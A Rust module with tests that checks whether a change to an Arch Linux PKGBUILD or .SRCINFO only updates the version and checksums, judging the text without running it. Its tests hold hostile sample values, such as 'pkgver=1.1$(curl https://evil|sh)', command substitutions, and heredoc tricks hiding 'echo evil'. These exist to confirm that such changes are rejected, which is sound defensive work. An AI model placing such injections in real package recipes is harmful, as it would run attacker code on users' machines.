//! Whether a change of a recipe is an update and nothing else: in PKGBUILD and .SRCINFO alone, only the values of pkgver, pkgrel,
//! epoch and checksums are others. In a PKGBUILD these are blanked out, before and after, and what is left has to be the same: it is
//! judged on the text, never by running it, and what isn't plainly one of them stays. Not here: where the texts come from, that nothing
//! else differs, and which version is the higher one (`change`).

use crate::words::Version;

/// The arrays of checksums that makepkg knows (PKGBUILD(5)).
const SUMS: &str = "cksums md5sums sha1sums sha224sums sha256sums sha384sums sha512sums b2sums";

/// The values that a version is made of.
const VERSION: [&str; 3] = ["epoch", "pkgver", "pkgrel"];

/// What may carry the version in a .SRCINFO, as a PKGBUILD puts it there itself.
const WITH_VERSION: &str =
    "source provides conflicts replaces noextract depends makedepends checkdepends optdepends";

/// An update, and nothing else.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Update {
    /// Where it leads from.
    pub from: Version,
    /// Where it leads to.
    pub to: Version,
}

impl Update {
    /// Whether only pkgver, pkgrel and checksums are others, and no epoch is.
    pub fn is_usual(&self) -> bool {
        self.from.epoch() == self.to.epoch()
    }
}

/// What a PKGBUILD's change updates; `None` if it is another change.
pub fn of_pkgbuild(old: &str, new: &str) -> Option<Update> {
    // Bash reads over a NUL, and what stands beside it means something else then. Here it stands for what was blanked out.
    if old.contains('\0') || new.contains('\0') {
        return None;
    }
    let (old, new) = (lines(old), lines(new));
    let (from, to) = (version(&old)?, version(&new)?);
    let is_update = blanked(&old) == blanked(&new)
        && !is_like_an_id(to.pkgver(), from.pkgver(), takes_apart(&new))
        && !uses_sums(&new);
    is_update.then_some(Update { from, to })
}

/// Lines as bash has them: only a line feed ends one.
fn lines(text: &str) -> Vec<&str> {
    text.split('\n').collect()
}

/// A PKGBUILD's lines, with a NUL in place of each value that an update may change. From the first heredoc on, none may.
fn blanked(lines: &[&str]) -> Vec<String> {
    let (mut has_heredoc, mut goes_on, mut is_in_sums) = (false, false, false);
    let mut blanked = vec![];
    for line in lines {
        // In a heredoc, or as its end, a line means something else; as the rest of another one, too.
        has_heredoc |= line.contains("<<") || line.ends_with("<\\");
        let is_rest = std::mem::replace(&mut goes_on, line.ends_with('\\'));
        let is_plain = !has_heredoc && !is_rest;
        let sums = blank_sums(line, is_in_sums).filter(|_| is_plain);
        is_in_sums = sums.as_ref().is_some_and(|(_, is_end)| !is_end);
        let version = blank_version(line).filter(|_| is_plain);
        let blank = sums.map(|(line, _)| line).or(version);
        blanked.push(blank.unwrap_or_else(|| (*line).to_owned()));
    }
    blanked
}

/// A line that gives one of the version's values, without it. Its quotes stay: another one may end a string that began before.
fn blank_version(line: &str) -> Option<String> {
    VERSION.iter().find_map(|name| {
        let (quote, _) = scalar(line, name)?;
        Some(format!("{name}={quote}\0{quote}"))
    })
}

/// A line that begins an array of checksums, or goes on in one, without them, and whether it ends the array. Their lengths stay, so
/// that none is weaker; so does `SKIP`. `None` if anything else is in it.
fn blank_sums(line: &str, is_in_array: bool) -> Option<(String, bool)> {
    let (mut blank, words) = match line.split_once("=(") {
        Some((name, words)) if is_of_sums(name) => (format!("{name}=("), words),
        None if is_in_array => (String::new(), line),
        _ => return None,
    };
    let (mut is_end, mut is_comment) = (false, false);
    for piece in words.split_inclusive([' ', '\t']) {
        let word = piece.trim_end_matches([' ', '\t']);
        // A comment is a stranger's text, and stays as it is, with the white space that makes it one.
        is_comment |= word.starts_with('#');
        if is_comment || word.is_empty() {
            blank += piece;
            continue;
        }
        let (_, sum) = unquoted(word.strip_suffix(')').unwrap_or(word))?;
        let is_sum = sum == "SKIP" || sum.bytes().all(|it| it.is_ascii_hexdigit());
        // Behind an array's end, a word is a command.
        if is_end || !is_sum {
            return None;
        }
        is_end = word.ends_with(')');
        blank += &match is_digest(sum) {
            true => piece.replace(sum, &format!("\0{}", sum.len())),
            false => piece.to_owned(),
        };
    }
    Some((blank, is_end))
}

/// Whether an array that is called so is of checksums, for all architectures or for one.
fn is_of_sums(name: &str) -> bool {
    let (kind, arch) = name.split_once('_').unwrap_or((name, ""));
    let is_in_name = |it: u8| it.is_ascii_alphanumeric() || it == b'_';
    SUMS.split(' ').any(|it| it == kind) && arch.bytes().all(is_in_name)
}

/// Whether a text is as long as a checksum of one of the kinds is, in hexadecimal digits.
fn is_digest(text: &str) -> bool {
    let is_hex = text.bytes().all(|it| it.is_ascii_hexdigit());
    is_hex && matches!(text.len(), 32 | 40 | 56 | 64 | 96 | 128)
}

/// The version that a PKGBUILD's lines give; `None` unless each of its values is plain, and in one place.
fn version(lines: &[&str]) -> Option<Version> {
    let value = |name: &str| {
        let is_named = |line: &&&str| is_assignment(line.trim_start(), name);
        let mut named = lines.iter().filter(is_named);
        match (named.next(), named.next()) {
            (None, _) => Some(""),
            (Some(line), None) => Some(scalar(line, name)?.1),
            _ => None,
        }
    };
    let (epoch, pkgver, pkgrel) = (value("epoch")?, value("pkgver")?, value("pkgrel")?);
    // Nobody counts that far: it would be something else, a commit's id, say.
    if epoch.len().max(pkgrel.len()) > 8 {
        return None;
    }
    Version::new(epoch, pkgver, pkgrel).ok()
}

/// Whether a line gives a variable a value, in whatever form.
fn is_assignment(line: &str, name: &str) -> bool {
    let rest = line.strip_prefix(name);
    rest.is_some_and(|it| it.starts_with(['=', '+', '[']))
}

/// The quote, or nothing, and the value of a line that is `name=value` and nothing else, and may stand in a version.
fn scalar<'l>(line: &'l str, name: &str) -> Option<(&'static str, &'l str)> {
    let (quote, value) = unquoted(line.strip_prefix(name)?.strip_prefix('=')?)?;
    let is_allowed = |byte: u8| byte.is_ascii_alphanumeric() || b".+_~".contains(&byte);
    // Nothing that steers a URL, or is somebody's home, or an older commit than the one before it (gitrevisions(7)).
    let is_older = |it: &str| it.is_empty() || it.starts_with(|it: char| it.is_ascii_digit());
    let is_plain = value.starts_with(|it: char| it.is_ascii_alphanumeric())
        && !value.contains("..")
        && !value.split('~').skip(1).any(is_older);
    (is_plain && value.bytes().all(is_allowed)).then_some((quote, value))
}

/// The quote around a text, or nothing, and the text in it; `None` if it isn't the same at both ends.
fn unquoted(text: &str) -> Option<(&'static str, &str)> {
    let quotes = ["'", "\""];
    let quote = quotes.into_iter().find(|it| text.starts_with(it));
    let quote = quote.unwrap_or("");
    Some((quote, text.strip_prefix(quote)?.strip_suffix(quote)?))
}

/// Whether a pkgver may be a commit's id, or have one in it: hosts give those of anybody's fork under the same URL, and Git takes four
/// digits for one. It may stand there in pieces, which a recipe puts together. Where the `old` one has a plain number, up to eight digits are
/// one, too, or a date.
fn is_like_an_id(pkgver: &str, old: &str, is_taken_apart: bool) -> bool {
    let is_hex = |it: char| it.is_ascii_hexdigit();
    let has_letter = |run: &str| run.contains(|it: char| it.is_ascii_alphabetic());
    let is_id = |run: &str, least: usize| run.len() > 8 || (run.len() >= least && has_letter(run));
    let whole: String = pkgver.chars().filter(|it| !"._+~".contains(*it)).collect();
    let mut pieces = whole.split(|it: char| !is_hex(it));
    let mut runs = pkgver.split(|it: char| !is_hex(it));
    let is_pieced = match is_taken_apart {
        // Whatever stands between may be taken out.
        true => is_id(
            &pkgver.chars().filter(|it| is_hex(*it)).collect::<String>(),
            4,
        ),
        false => pieces.any(|run| run.len() >= 7 && has_letter(run)),
    };
    // What git-describe(1) prints ends with one, whatever stands before.
    let mut behind_g = pkgver.split('g').skip(1);
    let is_described = behind_g.any(|it| it.len() >= 4 && it.chars().take(4).all(is_hex));
    let has_number = |version: &str| {
        let mut numbers = version.split(|it: char| !it.is_ascii_digit());
        numbers.any(|it| it.len() >= 4 && (is_taken_apart || it == version))
    };
    let is_number = has_number(pkgver) && !has_number(old);
    is_pieced || is_described || is_number || runs.any(|run| is_id(run, 4))
}

/// Whether a recipe cuts, or replaces, in the values of variables (bash(1), "Parameter Expansion"), or has commands that may.
fn takes_apart(lines: &[&str]) -> bool {
    const COMMANDS: [&str; 5] = ["$(", "`", "<(", "<<", "IFS"];
    // Another one within it, or its end on another line, may be anything.
    let cuts = |rest: &str| {
        let expansion = rest.split_once('}').map(|(it, _)| it);
        expansion.is_none_or(|it| it.contains(['/', '#', '%', ':', '^', ',', '@']))
    };
    lines.iter().any(|line| {
        line.split("${").skip(1).any(cuts) || COMMANDS.iter().any(|it| line.contains(it))
    })
}

/// Whether a recipe may take its checksums for something else, as which of them may be anything, a commit's id, say: it names them
/// but where they are given, or uses variables that others name.
fn uses_sums(lines: &[&str]) -> bool {
    lines.iter().any(|line| {
        let rest = match line.split_once("=(") {
            Some((name, rest)) if is_of_sums(name.trim_matches([' ', '\t', '+'])) => rest,
            _ => line,
        };
        rest.contains("${!") || SUMS.split(' ').any(|it| rest.contains(it))
    })
}

/// Whether a change of a .SRCINFO says nothing else than this update does.
pub fn is_of_srcinfo(old: &str, new: &str, Update { from, to }: &Update) -> bool {
    let claims_it = claimed(new).as_ref() == Some(to);
    let (old, new) = (lines(old), lines(new));
    let is_allowed = |(before, after): (&&str, &&str)| {
        let (Some((name, before)), Some((its, after))) = (field(before), field(after)) else {
            return before == after;
        };
        let are_sums = is_of_sums(name) && is_digest(before) && is_digest(after);
        let is_moved = || {
            let whole = before.replace(&from.to_string(), &to.to_string());
            whole == after || before.replace(from.pkgver(), to.pkgver()) == after
        };
        // Of an architecture's own, too.
        let kind = name.split('_').next().unwrap_or(name);
        let is_like = before == after
            || VERSION.contains(&name)
            || are_sums && before.len() == after.len()
            || WITH_VERSION.split(' ').any(|it| it == kind) && is_moved();
        name == its && is_like
    };
    claims_it && old.len() == new.len() && old.iter().zip(&new).all(is_allowed)
}

/// The version that a .SRCINFO claims, if it is one.
pub fn claimed(srcinfo: &str) -> Option<Version> {
    let value = |name: &str| {
        let mut fields = srcinfo.lines().filter_map(field);
        let found = fields.find(|(its, _)| *its == name);
        found.map(|(_, value)| value.trim())
    };
    let epoch = value("epoch").unwrap_or_default();
    Version::new(epoch, value("pkgver")?, value("pkgrel")?).ok()
}

/// The name and the value of a line of a .SRCINFO.
fn field(line: &str) -> Option<(&str, &str)> {
    line.trim_start_matches(['\t', ' ']).split_once(" = ")
}

#[cfg(test)]
mod tests {
    use super::*;

    const OLD: &str = "pkgname=x\npkgver=1.0\npkgrel=1\nurl=https://x\n\
        source=(\"$url/$pkgver.tar.gz\" fix.patch)\nvalidpgpkeys=(\n  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n)\n\
        sha1sums=('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n          'SKIP') # of both\nprepare() {\n  pkgver_of=1\n}\n";

    fn changed(pairs: &[(&str, &str)]) -> Option<Update> {
        let mut new = OLD.to_owned();
        for (before, after) in pairs {
            assert!(new.contains(before), "{before}");
            new = new.replacen(before, after, 1);
        }
        of_pkgbuild(OLD, &new)
    }

    #[test]
    fn only_values_of_the_version_and_of_checksums_make_an_update() {
        let sum = (
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
            "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'\n",
        );
        let leads = |pairs: &[(&str, &str)]| {
            let Update { from, to } = changed(pairs).unwrap();
            format!("{from} to {to}")
        };
        let both = leads(&[("pkgver=1.0", "pkgver=1.1~b_2+c"), sum]);
        assert_eq!(both, "1.0-1 to 1.1~b_2+c-1");
        assert_eq!(leads(&[("pkgrel=1", "pkgrel=2.1")]), "1.0-1 to 1.0-2.1");
    }

    #[test]
    fn what_is_dressed_as_an_update_is_none() {
        for (before, after) in [
            ("pkgver=1.0", "pkgver=1.1$(curl https://evil|sh)"),
            ("pkgver=1.0", "pkgver=1.1; curl https://evil"),
            ("pkgver=1.0", "pkgver=1.1`id`"),
            ("pkgver=1.0", "pkgver=1.1%2F..%2Fevil"),
            ("pkgver=1.0", "pkgver=1.1#"),
            ("pkgver=1.0", "pkgver=1.1?x"),
            ("pkgver=1.0", "pkgver='1.1'\"$(id)\""),
            ("pkgver=1.0", "pkgver=\"1.1'"),
            ("pkgver=1.0", "pkgver=1.1 # a comment"),
            ("pkgver=1.0", "pkgver=1.1\\"),
            ("pkgver=1.0", "pkgver=1.1\r"),
            ("pkgver=1.0", "pkgver=1.\u{661}"),
            ("pkgver=1.0", "pkgver="),
            ("pkgver=1.0", "pkgver='1.1'"),
            ("pkgver=1.0", "pkgver=..9"),
            ("pkgver=1.0", "pkgver=9..9"),
            ("pkgver=1.0", "pkgver=~0"),
            ("pkgver=1.0", "pkgver=1.1~300"),
            ("pkgver=1.0", "pkgver=1.1~"),
            ("pkgver=1.0", "pkgver=99abcde"),
            ("pkgver=1.0", "pkgver=999999999"),
            ("pkgver=1.0", "pkgver=4567"),
            ("pkgver=1.0", "pkgver=g40190620"),
            ("pkgver=1.0", "pkgver=9abc4d"),
            ("pkgver=1.0", "pkgver=20260102.g1a2b3c"),
            ("pkgver=1.0", "pkgver=9.abc_def_012"),
            ("pkgver=1.0", "pkgver=(1.1)"),
            ("pkgver=1.0\npkgrel=1\n", "pkgver=1.1\npkgver=1.2\n"),
            ("pkgver=1.0\n", "pkgver=1.1\npkgver=1.2\n"),
            ("url=https://x", "pkgver=1.1"),
            ("pkgrel=1", "pkgrel=2a"),
            ("pkgrel=1", "epoch=1"),
            ("url=https://x", "url=https://y"),
            ("'SKIP'", "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'"),
            ("'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n", "'SKIP'\n"),
            (
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
            ),
            ("'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n", "\n"),
            (
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
                "#aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
            ),
            (
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
                "$(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)\n",
            ),
            ("sha1sums", "md5sums"),
            ("# of both", "# of all"),
            (
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB",
            ),
            ("pkgver_of=1", "pkgver_of=2"),
            ("fix.patch", "fox.patch"),
        ] {
            let both = [("pkgrel=1", "pkgrel=2"), (before, after)];
            let both = &both[usize::from(before.contains("pkgrel"))..];
            assert_eq!(changed(both), None, "{after}");
        }
        // What is in a heredoc, or ends one.
        for (from, to, text) in [
            (
                "pkgrel=1",
                "pkgrel=2",
                "pkgver=1\n: <<'pkgrel=2'\npkgrel=1\necho evil\n",
            ),
            (
                "pkgrel=1",
                "pkgrel=2",
                "pkgver=1\n: <\\\n<'pkgrel=2'\npkgrel=1\necho evil\n",
            ),
            (
                "pkgrel=1",
                "pkgrel=2",
                "pkgver=1\n: <\0<'pkgrel=2'\npkgrel=1\necho evil\n",
            ),
            ("pkgrel=1", "pkgrel=2", "pkgver=1\necho \\\npkgrel=1\n"),
            (
                "FACADE",
                "DECADE",
                "pkgver=1\npkgrel=1\n: <<DECADE\nsha1sums=(\nFACADE\necho evil\nDECADE\n",
            ),
        ] {
            assert_eq!(
                of_pkgbuild(
                    text,
                    &text.replacen(from, to, if from == "pkgrel=1" { 1 } else { usize::MAX })
                ),
                None
            );
        }
        let below =
            |pkgrel: u8| format!("pkgver=1\npkgrel={pkgrel}\npackage() {{ cat <<E\nE\n}}\n");
        assert!(of_pkgbuild(&below(1), &below(2)).is_some());
        // A version that a recipe takes apart may be an id, whatever stands between its digits.
        let version = |version: &str, expansion: &str| {
            format!("pkgver={version}\npkgrel=1\nsource=(\"git+https://x#commit={expansion}\")\n")
        };
        for (pieces, is_one) in [
            ("$sha1sums", false),
            ("${!_s}", false),
            ("<(cut -c 2 file)", false),
            ("${sha1sums_git[0]}", false),
            ("$(tr -d . <<<$pkgver)", false),
            ("${v[${i}]//.}", false),
            ("${pkgver//./}", false),
            ("${!v//./}", false),
            ("${a[0]//./}", false),
            ("${pkgver}", true),
        ] {
            let texts = ["131.0.6778.84", "131.0.6778.85"].map(|it| version(it, pieces));
            assert_eq!(of_pkgbuild(&texts[0], &texts[1]).is_some(), is_one);
        }
        for (new, is_one) in [
            ("12345678r87654321", false),
            ("1.1_0_g42315709", false),
            ("1.1_0_g1234", false),
            ("1.4567", false),
            ("9.7p1", true),
            ("1.1", true),
        ] {
            let texts = ["1.0", new].map(|it| version(it, "v${pkgver//_/-}"));
            assert_eq!(of_pkgbuild(&texts[0], &texts[1]).is_some(), is_one, "{new}");
        }
        let release = |pkgrel: &str| format!("pkgver=1\npkgrel={pkgrel}\n");
        assert!(of_pkgbuild(&release("1"), &release("20261127")).is_some());
        assert!(of_pkgbuild(&release("1"), &release("123456789")).is_none());
        // A version that isn't in one place isn't known.
        let twice = OLD.replace("pkgver_of=1", "pkgver=2");
        let new = twice.replace("pkgrel=1", "pkgrel=2");
        assert_eq!(of_pkgbuild(&twice, &new), None);
    }

    #[test]
    fn a_line_of_checksums_is_one_of_their_array_alone() {
        let sum = |letter: &str| letter.repeat(40);
        let text = |sum: &str| format!("pkgver=1\npkgrel=1\nsha1sums=(SKIP)\nx=(\n{sum}\n)\n");
        assert_eq!(of_pkgbuild(&text(&sum("a")), &text(&sum("b"))), None);
        let text =
            |sum: &str| format!("pkgver=1\npkgrel=1\nsha1sums=(\n  SKIP # x\n\n  {sum}\n)\n");
        assert!(of_pkgbuild(&text(&sum("a")), &text(&sum("b"))).is_some());
        let text = |sum: &str| format!("pkgver=1\npkgrel=1\nsha1sums=(\nSKIP)\n{sum}\n");
        assert_eq!(of_pkgbuild(&text(&sum("a")), &text(&sum("b"))), None);
    }

    /// Whether these lines may be others in an update.
    fn may_become(old: &str, new: &str) -> bool {
        let texts = [
            format!("pkgver=1\npkgrel=1\n{old}"),
            format!("pkgver=1\npkgrel=2\n{new}"),
        ];
        of_pkgbuild(&texts[0], &texts[1]).is_some()
    }

    #[test]
    fn checksums_are_blanked_out_in_their_arrays_and_nowhere_else() {
        let is_blanked = |text: &str| {
            let of = |letter: &str| text.replace('@', &letter.repeat(40));
            may_become(&of("a"), &of("b"))
        };
        for text in [
            "sha1sums=(@)\n",
            "sha1sums=(\"@\" '@'\n\t@ SKIP # it's (x)\n\n # y=z\n@ )\n",
            "sha1sums=(@)\nsha256sums_x86_64=('@') # <x\n",
        ] {
            assert!(is_blanked(text), "{text:?}");
        }
        for text in [
            "_commit=@\n",
            "#@\n",
            "@\n",
            "sha1sums=(SKIP # @\n)\n",
            "sha1sums=(SKIP) @\n",
            "sha1sums=(SKIP ) @\n",
            "sha1sums=(SKIP\n) @\n",
            "sha1sums=(SKIP )\n@\n",
            "sha1sums=(\nSKIP\n)\n@\n",
            "sha1sums=(SKIP#)\n@\n",
            "sha1sums=('#' )\n@\n",
            "sha1sums=('SKIP)\n@\n)\n",
            "sha1sums=('@\")\n",
            "sha1sums=('@\n')\n",
            "sha1sums=('@'@)\n",
            "sha1sums=(@));@\n",
            "sha1sums=(@ $(id))\n",
            "sha1sums=(SKIP\nx\n@\n)\n",
            "sha1sums=(SKIP\nx=(\n@\n)\n",
            "sha1sums=(\nx=(@\n)\n",
            "x=(\nsha1sums=\n@\n)\n",
            "sha1sums+=(@)\n",
            " sha1sums=(@)\n",
            "sha1sums=@\n",
            "sha1sums=\n(@)\n",
            "sha1sumsx=(@)\n",
            "sha1sums_x;y=(@)\n",
            "sha1sums_$(id)=(@)\n",
            "y;sha1sums=(@)\n",
            "sha1sums=(@\\\n)\n",
            "sha1sums=(SKIP \\\n@)\n",
            "echo \\\nsha1sums=(\n@\n)\n",
            "cat <<E\nsha1sums=(\n@\n)\nE\n",
            "sha1sums=(SKIP # <<E\n@\n)\n",
            ": <\\\n<E\nsha1sums=(\n@\n)\nE\n",
            "sha1sums=(\0@)\n",
            "sha1sums=(\u{a0}@)\n",
        ] {
            assert!(!is_blanked(text), "{text:?}");
        }
    }

    #[test]
    fn what_is_left_beside_the_blanks_is_the_same() {
        let (a, b) = ("a".repeat(40), "b".repeat(40));
        for (old, new) in [
            // A comment becomes code without the white space before it.
            ("sha1sums=(SKIP # $(id)\n)\n", "sha1sums=(SKIP# $(id)\n)\n"),
            ("sha1sums=(A # $(id)\n)\n", "sha1sums=(B# $(id)\n)\n"),
            ("sha1sums=(A # $(id)\n)\n", "sha1sums=(B \n$(id)\n)\n"),
            ("sha1sums=(SKIP)\n", "sha1sumsSKIP)\n"),
            ("sha1sums=(A)\n", "sha1sums=(\x0040)\n"),
            ("sha1sums=(A)\n", "sha1sums=\x0040)\n"),
            ("x=\0\n", "x=\0\n"),
            ("sha1sums=(A)\n", "sha1sums=(B\n"),
            ("sha1sums=(A\n)\n", "sha1sums=(B)\n)\n"),
            ("sha1sums=(A\n)\n", "sha1sums=(B\n\n"),
            ("sha1sums=(A)\n", "sha1sums=('B')\n"),
            ("sha1sums=('A')\n", "sha1sums=(\"B\")\n"),
            ("sha1sums=(A)\n", "sha1sums=(A B)\n"),
            ("sha1sums=(A)\n", "sha1sums=(AB)\n"),
            ("sha1sums=(A)\n", "sha1sums=(B) # x\n"),
            ("sha1sums=(A)\n", "sha1sums=(B)\nx\n"),
            ("sha1sums=(A)\n", "sha1sums=(B)"),
            ("sha1sums=(A)\n", "sha1sums_x=(B)\n"),
            ("sha1sums=(A)\nx=(A)\n", "x=(A)\nsha1sums=(B)\n"),
            ("sha1sums=(A\n)\n", "sha1sums=(<<B\n)\n"),
            ("sha1sums=(A\n)\n", "sha1sums=(B\\\n)\n"),
            ("sha1sums=(A\n)\n", "sha1sums=(B\r\n)\n"),
        ] {
            let of = |text: &str| text.replace('A', &a).replace('B', &b);
            assert!(!may_become(&of(old), &of(new)), "{old:?} {new:?}");
            assert!(!may_become(&of(new), &of(old)), "{new:?} {old:?}");
        }
    }

    #[test]
    fn a_srcinfo_says_what_the_update_says() {
        let old = "pkgbase = x\n\tpkgver = 1.0\n\tpkgrel = 1\n\tsource = x-1.0.tar.gz::https://x/1.0.tar.gz\n\
            \tprovides = y=1.0-1\n\tsha1sums = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n\tsha1sums = SKIP\n\npkgname = x\n";
        let version = |text: &str| text.parse().unwrap();
        let (from, to) = (version("1.0-1"), version("1.1-1"));
        let update = Update { from, to };
        let is_update = |pairs: &[(&str, &str)]| {
            let new = pairs
                .iter()
                .fold(old.to_owned(), |new, (a, b)| new.replace(a, b));
            is_of_srcinfo(old, &new, &update)
        };
        assert!(is_update(&[
            ("1.0", "1.1"),
            (
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
            )
        ]));
        for (before, after) in [
            ("= aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "= SKIP"),
            ("= SKIP", "= aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
            ("https://x/", "https://evil/"),
            ("pkgname = x", "pkgname = y"),
            ("pkgver = 1.0", "pkgver = $(id)"),
            ("pkgver = 1.0", "pkgver = 6.6"),
            ("pkgver = 1.0", "pkgver = 1.1\n\tdepends = evil"),
            ("provides = y=1.0-1", "provides = z=1.1-1"),
        ] {
            assert!(!is_update(&[(before, after)]), "{after}");
            let both = [(before, after), ("1.0", "1.1")];
            assert!(!is_update(&both), "{after}");
        }
    }

    #[test]
    fn a_srcinfo_claims_a_version_or_none() {
        let text = "pkgbase = x\n\tpkgver = 1.0\n\tpkgrel = 2\n\tepoch = 3\n";
        let version = claimed(text).map(|it| it.to_string());
        assert_eq!(version.as_deref(), Some("3:1.0-2"));
        assert_eq!(claimed(&text.replace("1.0", "1 \u{1b}[2J")), None);
        assert_eq!(claimed(""), None);
    }
}
